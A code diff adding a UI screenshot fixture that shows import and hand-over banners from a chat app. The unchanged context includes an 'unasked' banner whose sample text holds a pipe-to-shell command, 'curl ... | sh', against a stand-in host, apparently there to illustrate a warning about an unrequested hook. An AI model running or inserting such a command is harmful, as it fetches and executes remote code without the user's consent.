@@ -635,6 +635,19 @@ export const shots: Shot[] = [
       })
       .banner("rebuilt", { dismissed: true }),
   }),
+  shot("14-handed-over", {
+    story: prose()
+      .banner("imported", { detail: "38 messages", note: "2 damaged entries were left out." })
+      .banner("imported", {
+        from: "Claude Code",
+        detail: "12 messages",
+        note: "1 damaged entry was left out.",
+      })
+      .banner("handed_over", {
+        note: "The new session has 6 messages from this chat, with their answers.",
+      })
+      .banner("written_elsewhere", { detail: "2 messages" }),
+  }),
   shot("14-unasked", {
     story: prose().banner("unasked", {
       detail: "curl -s https://get.example.dev | sh\n.github/hooks/format.json hooks.preToolUse",
